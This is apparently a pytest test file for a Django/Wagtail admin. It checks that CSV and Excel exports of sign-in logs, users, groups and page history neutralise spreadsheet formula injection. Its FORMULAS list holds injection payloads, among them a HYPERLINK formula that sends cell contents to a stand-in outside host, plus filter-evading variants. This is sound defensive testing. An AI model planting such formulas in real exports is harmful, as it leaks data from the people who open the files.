"""Every table of the desk, as CSV and as a workbook: nothing in it runs in a spreadsheet."""

import csv
import io

import pytest
from axes.models import AccessFailureLog, AccessLog
from django.contrib.auth.models import Group, User
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.log_actions import log

from conditions.models import Reference
from desk.queues import all_queues
from desk.safe_exports import preprocess_field_value
from tests.conditions.desk import a_condition, address
from tests.myositis_portal.addresses import desk_addresses, view_class

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://one.example/?"&A1,"Press")',
    *("+1+1", "-1+1", "@SUM(A1)", " =1+1", "\t=1+1", "\n=1+1", "\r=1+1", "＝1+1", "\u200b=1+1"),
]


@pytest.fixture
def desk(client):
    client.force_login(User.objects.create_superuser("first"))
    return client


def csv_rows(client, address):
    answer = client.get(address, {"export": "csv"})
    assert answer.status_code == 200, address
    return list(csv.reader(io.StringIO(answer.getvalue().decode(), newline="")))


def workbook_cells(client, address):
    answer = client.get(address, {"export": "xlsx"})
    assert answer.status_code == 200, address
    sheet = load_workbook(io.BytesIO(b"".join(answer.streaming_content))).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("text", FORMULAS)
def test_the_name_of_a_browser_is_never_a_formula(desk, text):
    for model, name in ((AccessLog, "sign_ins"), (AccessFailureLog, "failed_sign_ins")):
        model.objects.create(user_agent=text, username="editor", path_info="/", http_accept="")
        rows = csv_rows(desk, reverse(name))
        assert f"'{text}" in [cell for row in rows for cell in row]
        cells = workbook_cells(desk, reverse(name))
        values = [str(cell.value) for cell in cells]
        assert any(value.startswith("'") for value in values)
        assert not any(cell.data_type == "f" for cell in cells)


def test_no_table_of_the_desk_has_a_formula(desk):
    """Wagtail's own tables too: users, groups, the history of everything."""
    formula = FORMULAS[0]
    User.objects.create(username=formula, first_name=formula)
    Group.objects.create(name=formula)
    page = a_condition(name=formula, summary=formula)
    log(page, "wagtail.edit", user=User.objects.get(username=formula))
    page.get_workflow().start(page, User.objects.get(username=formula))
    Reference.objects.create(url="https://one.example/", title=formula, publisher=formula)
    views = [
        one
        for one in desk_addresses()
        if not one.is_closed and issubclass(view_class(one), SpreadsheetExportMixin)
    ]
    tables = [
        address
        for one in views
        if one.parameters <= {"slug"} and not one.route.endswith("results/")
        for address in {one.address(slug=queue.slug) for queue in all_queues()}
    ]
    # No view with its own way to write a cell goes around the guard.
    assert {view_class(one).preprocess_field_value for one in views} == {preprocess_field_value}
    assert address(page, "list") in tables
    assert reverse("wagtailadmin_reports:site_history") in tables
    seen = set()
    for table in tables:
        found = [cell for row in csv_rows(desk, table) for cell in row]
        found += [str(cell.value or "") for cell in workbook_cells(desk, table)]
        assert [text for text in found if text.lstrip().startswith(("=", "＝"))] == [], table
        if f"'{formula}" in found:
            seen.add(table)
    # The formula was there to be caught.
    assert {address(page, "list"), reverse("wagtailadmin_reports:site_history")} <= seen


def test_a_control_character_does_not_break_a_workbook(desk):
    AccessLog.objects.create(
        user_agent="a\x01b\x0bc", username="editor", path_info="/", http_accept=""
    )
    values = [cell.value for cell in workbook_cells(desk, reverse("sign_ins"))]
    assert "abc" in values
